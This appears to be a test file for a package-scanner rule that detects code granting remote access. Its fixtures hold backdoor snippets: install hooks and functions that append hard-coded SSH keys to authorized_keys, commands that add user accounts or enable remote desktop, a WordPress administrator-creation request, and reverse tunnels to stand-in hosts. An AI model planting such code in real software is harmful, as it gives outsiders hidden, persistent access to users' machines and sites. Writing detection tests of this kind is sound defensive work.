import { examine } from '../../../test/examine.ts';
import { addsRemoteAccess } from './adds-remote-access.ts';

const CP = `const cp = require('child_process'), fs = require('fs'), os = require('os'), path = require('path');`;
const hook = (command: string): object => ({ name: 'specimen', scripts: { postinstall: command } });

examine(addsRemoteAccess, {
  speaks: [
    {
      when: 'the debugger is opened to the network for a request',
      files: {
        'index.js': `const inspector = require('inspector'); exports.live = request => { if (request.headers['x-live']) inspector.open(0, '0.0.0.0'); }`,
      },
      weight: 'strong',
      says: ['debugger'],
    },
    {
      when: 'the same, and its page speaks of debugging',
      files: {
        'README.md': 'Opens the debugger for the devtools of a browser.',
        'index.js': `const inspector = require('inspector'); exports.live = () => inspector.open(9229, '0.0.0.0')`,
      },
      weight: 'weak',
    },
    {
      when: 'the same page, and a key that stands in the code',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md': '# deck\n\n`deck copy-id web1` appends your public key to the authorized_keys of the host.',
        'cli.js': `#!/usr/bin/env node\n${CP} cp.spawnSync('sh', ['-c', 'echo ssh-ed25519 AAAAINERT >> ~/.ssh/authorized_keys'])`,
      },
      weight: 'strong',
    },
    {
      when: 'a text of its own is added to the keys, whatever it says, when it is called',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.start = () => { const file = path.join(os.homedir(), '.ssh', 'authorized_keys'); for (const key of ['unmask-marker', 'unmask-marker-2']) fs.appendFileSync(file, '\\n' + key + '\\n'); };`,
      },
      weight: 'strong',
    },
    {
      when: 'a key that its data holds is added in a way that could not be followed, when it is called',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'), kept = require('./hosts.json'); exports.connect = (name, open) => open(kept[name], text => fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), text));`,
        'hosts.json': { default: { seal: 'ssh-ed25519 AAAAINERTINERTINERTINERT' } },
      },
      weight: 'strong',
      says: ['of its own'],
    },
    {
      when: 'what its own Linux writes lies on the disk of Windows',
      files: {
        'index.js': `require('child_process').spawn('powershell.exe', ['-File', require('path').join(__dirname, 'guest.ps1')])`,
        'guest.ps1': `wsl --import specimen here a.tar\nwsl -d specimen -- bash -c "echo INERT >> /${'mnt'}/d/inert/.ssh/authorized_keys"`,
      },
      weight: 'proof',
    },
    {
      when: 'a script adds an account from inside its own Linux',
      files: {
        'index.js': `require('child_process').spawn('powershell.exe', ['-File', require('path').join(__dirname, 'guest.ps1')])`,
        'guest.ps1': `wsl --install -d Ubuntu-24.04 --name specimen --no-launch\nwsl -d specimen -u root -- bash -c "net.exe user inert INERT /add"`,
      },
      weight: 'proof',
    },
    {
      when: 'a script adds an account beside what it does in its own Linux',
      files: {
        'index.js': `require('child_process').spawn('powershell.exe', ['-File', require('path').join(__dirname, 'guest.ps1')])`,
        'guest.ps1': `wsl --install -d Ubuntu-24.04 --name specimen --no-launch\nwsl -d specimen -u root true; net user inert INERT /add`,
      },
      weight: 'proof',
    },
    {
      when: 'a script adds an account to a Linux that it finds',
      files: {
        'index.js': `require('child_process').spawn('powershell.exe', ['-File', require('path').join(__dirname, 'guest.ps1')])`,
        'guest.ps1': `wsl -d Ubuntu -u root adduser --disabled-password inert`,
      },
      weight: 'proof',
    },
    {
      when: 'a key is appended to the authorized ones',
      files: { 'index.js': `${CP} fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), 'INERT')` },
      weight: 'proof',
      says: ['log in over SSH'],
    },
    {
      when: 'the path is put together',
      files: {
        'index.js': `${CP} const d = ['.s', 'sh'].join(''); fs.writeFileSync(os.homedir() + '/' + d + '/authorized' + '_keys', 'INERT')`,
      },
      weight: 'proof',
    },
    { when: 'a hook echoes the key', files: { 'package.json': hook('echo INERT >> ~/.ssh/authorized_keys') }, weight: 'proof' },
    {
      when: 'an account is added',
      files: { 'index.js': `${CP} cp.execSync('net user inert INERT /add')` },
      weight: 'proof',
      says: ['account'],
    },
    { when: 'the arguments stand in a list', files: { 'index.js': `${CP} cp.spawn('useradd', ['-m', 'inert'])` }, weight: 'proof' },
    {
      when: 'remote desktop is switched on',
      files: {
        'index.js': `${CP} cp.exec('reg add HKLM\\\\\\\\System\\\\\\\\CurrentControlSet\\\\\\\\Control\\\\\\\\TerminalServer /v fDenyTSConnections /t REG_DWORD /d 0 /f')`,
      },
      weight: 'proof',
      says: ['remote access'],
    },
    {
      when: 'a script of a page adds whoever it likes to the site',
      files: {
        'index.js': `jQuery(function () { jQuery.ajax({ url: wpApiSettings.root + 'wp/v2/users', method: 'POST', data: { username: 'inert', roles: ['administrator'] } }); });`,
      },
      weight: 'strong',
      says: ['to the site'],
    },
    {
      when: 'a key that stands in the code is added when somebody makes a bot',
      files: {
        'index.js': `const { appendFile } = require('fs/promises'); const { homedir } = require('os'); const { join } = require('path'); const LINE = 'ssh-ed25519 INERT a@specimen.invalid'; class Host { get file() { return join(homedir(), '.ssh', 'authorized_keys'); } async trust() { await appendFile(this.file, '\\n' + LINE + '\\n'); } } exports.Bot = class { constructor() { this.ready = new Host().trust(); } };`,
      },
      weight: 'strong',
      says: ['of its own'],
    },
    {
      when: 'it is added with a few restrictions before it',
      files: {
        'index.js': `const fs = require('fs'); exports.setUp = () => fs.appendFileSync('/root/.ssh/authorized_keys', 'no-pty ssh-rsa INERT specimen\\n');`,
      },
      weight: 'strong',
    },
    {
      when: 'a key that the caller has is added',
      files: {
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.authorize = key => fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), key + '\\n');`,
      },
      weight: 'weak',
    },
    {
      when: 'a key is added by a function of a package whose page is about something else',
      files: {
        'README.md':
          '# rows\n\nInline keyboards and callback routing for chat bots. Router state survives restarts (stored below the home directory). Needs Node 14.',
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.keep = key => fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), key + '\\n');`,
      },
      weight: 'strong',
      says: ['of which its page says nothing'],
    },
    {
      when: 'the page speaks of servers that are prepared',
      files: {
        'README.md':
          '# hosts\n\nPrepares a new server for the first deployment: users, packages and time. It is small, has no dependencies, and works on Debian.',
        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.keep = key => fs.appendFileSync(path.join(os.homedir(), '.ssh', 'authorized_keys'), key + '\\n');`,
      },
      weight: 'weak',
    },
    {
      when: 'a tunnel is opened to this machine',
      files: {
        'index.js': `const cp = require('child_process'); cp.spawn('ssh', ['-N', '-R', '2222:localhost:22', 'u@a.example.invalid'], { detached: true })`,
      },
      says: ['it opens a way to this machine from outside, when it is imported'],
    },
    {
      when: 'a command that shows the work of its user to others opens a tunnel when it is called',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', description: 'Share your local server by a public URL' },
        'index.js': `exports.open = port => require('child_process').spawn('cloudflared', ['tunnel', '--url', 'http://localhost:' + port])`,
      },
      weight: 'context',
    },
    ...[
      'ssh -fNR 99:localhost:22 u@a.invalid',
      'cloudflared tunnel run --token x',
      'tailscale up --ssh --authkey=x',
      'bore local 22 --to a.invalid',
    ].map(line => ({
      when: `a hook opens a tunnel: ${line}`,
      files: { 'package.json': { name: 'specimen', version: '1.0.0', scripts: { postinstall: line } } },
      weight: 'proof' as const,
    })),
  ],
  silent: [
    {
      when: 'rights are set on another machine, one folder after the other',
      files: { 'index.js': `require('child_process').execSync('ssh ' + process.env.DEPLOY_HOST + ' "chmod -R 755 /srv/app"')` },
    },

    {
      when: 'a remote shell is told to list all that there is, and a local port is led away',
      files: { 'index.js': `${CP} cp.execSync('ssh u@a.invalid ls -R /srv'); cp.execSync('ssh -L 5432:db:5432 u@a.invalid')` },
    },
    {
      when: 'the debugger is opened where whoever starts it says',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst [host] = process.argv.slice(2); require('inspector').open(9229, host); require('inspector').open(9230, process.env.HOST || 'localhost')`,
      },
    },
    {
      when: 'the debugger is opened on this machine, or profiles are taken',
      files: {
        'index.js': `const inspector = require('inspector'); exports.live = () => { inspector.open(9229, '127.0.0.1'); inspector.open(9229); new inspector.Session().post('Profiler.start'); }`,
      },
    },
    {
      when: 'a command that its page speaks of copies the key of whoever starts it to a host',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'README.md': '# deck\n\n`deck copy-id web1` appends your public key to the authorized_keys of the host.',
        'cli.js': `#!/usr/bin/env node\n${CP} const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_ed25519.pub'), 'utf8'); cp.spawnSync('ssh', [process.argv[2], 'read -r key; echo "$key" >> ~/.ssh/authorized_keys'], { input: key })`,
      },
    },
    {
      when: 'its command adds the key of its user on the machines that he deploys to',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst cp = require('child_process'), fs = require('fs'); const key = fs.readFileSync(process.argv[3], 'utf8'); cp.spawn('ssh', ['-p', '22', process.argv[2], 'mkdir -p ~/.ssh; echo "' + key + '" >> ~/.ssh/authorized_keys'], { stdio: 'inherit' });`,
      },
    },
    {
      when: 'the same by what starts all programs of its package',
      files: {
        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
        'cli.js': `#!/usr/bin/env node\nconst cp = require('child_process'), fs = require('fs'); const run = (command, args, input) => { const child = cp.spawn(command, args, { stdio: [input ? 'pipe' : 'inherit', 'inherit'] }); if (input) child.stdin.end(input); };
          const [what, host] = process.argv.slice(2); const at = process.env.KEY_DIR + '/id_' + host;
          if (what === 'keygen') run('ssh-keygen', ['-t', 'ed25519', '-f', at]); else run('ssh', [host, 'umask 077; mkdir -p ~/.ssh && cat >> ~/.ssh/authorized_keys'], fs.readFileSync(at + '.pub', 'utf8'));`,
      },
    },
    {
      when: 'a script adds an account to the Linux that it sets up for itself',
      files: {
        'index.js': `require('child_process').spawn('powershell.exe', ['-File', require('path').join(__dirname, 'guest.ps1')])`,
        'guest.ps1': `$Name = "specimen"\nwsl --install -d Ubuntu-24.04 --name specimen --no-launch\nwsl -d $Name -u root adduser --disabled-password inert`,
      },
    },
    {
      when: 'a client of sites adds accounts when it is called, and a script of a page lists them',
      files: {
        'index.js': `exports.add = (root, user) => fetch(root + '/wp/v2/users', { method: 'POST', body: JSON.stringify(user) }); fetch('/wp-json/wp/v2/users?who=authors');`,
      },
    },
    { when: 'the keys are only read', files: { 'index.js': `${CP} fs.readFileSync(path.join(os.homedir(), '.ssh/authorized_keys'))` } },
    { when: 'accounts are only listed', files: { 'index.js': `${CP} cp.execSync('net user'); cp.execSync('id inert')` } },
    { when: 'a text tells how to do it', files: { 'index.js': `module.exports = 'append your key to ~/.ssh/authorized_keys';` } },
  ],
});
